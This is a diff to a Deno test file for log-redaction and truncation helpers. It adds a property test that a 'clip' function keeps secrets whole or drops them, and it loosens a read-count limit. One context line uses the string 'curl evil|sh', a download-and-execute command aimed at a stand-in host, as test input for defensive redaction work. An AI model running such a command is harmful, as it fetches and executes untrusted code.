@@ -9,6 +9,7 @@ import {
 } from "../../lib/log/redact.ts";
 import { SECRET_KINDS } from "../../lib/log/secret_kinds.ts";
 import { shownJson, shownLine } from "../../lib/log/shown.ts";
+import { clip } from "../../lib/proxmox/clip.ts";
 import { visible, visibleLine } from "../../lib/log/visible.ts";
 
 const SECRET_KEYS = [
@@ -256,6 +257,14 @@ Deno.test("redactText keeps both ends of a long text, and no half secret at the 
   assert.match(boundedJson({ command: shrinking }, 4_096), /"curl evil\|sh #/);
 });
 
+Deno.test("clip cuts no secret in half", () => {
+  fc.assert(fc.property(planted, fc.integer({ min: 0, max: 60 }), (example, into) => {
+    const text = `${"- ".repeat(50)}\n${plain(example)}\n${"- ".repeat(50)}`;
+    const shown = clip(text, 100 + into);
+    for (const part of secretsIn(example)) assert.ok(!shown.includes(part.slice(0, 5)), shown);
+  }));
+});
+
 Deno.test("searching takes linear time: every repetition in a kind's pattern is bounded", () => {
   for (const { hint, name, pattern } of SECRET_KINDS) {
     for (const source of [hint, pattern.source]) {
@@ -284,7 +293,8 @@ Deno.test("boundedJson reads no more members and characters than it could keep",
   );
   assert.match(boundedJson({ list }, 4_096), /more"/);
   assert.match(boundedJson({ record }, 4_096), /more"/);
-  assert.ok(reads < 40_000, `${reads} reads`);
+  assert.match(boundedJson({ lists: Array(1_000).fill(list) }, 4_096), /more"/);
+  assert.ok(reads < 60_000, `${reads} reads`);
   const texts = Array.from({ length: 1_000 }, () => "password=x ".repeat(1_000));
   const budget = { characters: 10_000, members: 1_000 };
   const shown = redactValue(texts, { most: budget }) as string[];
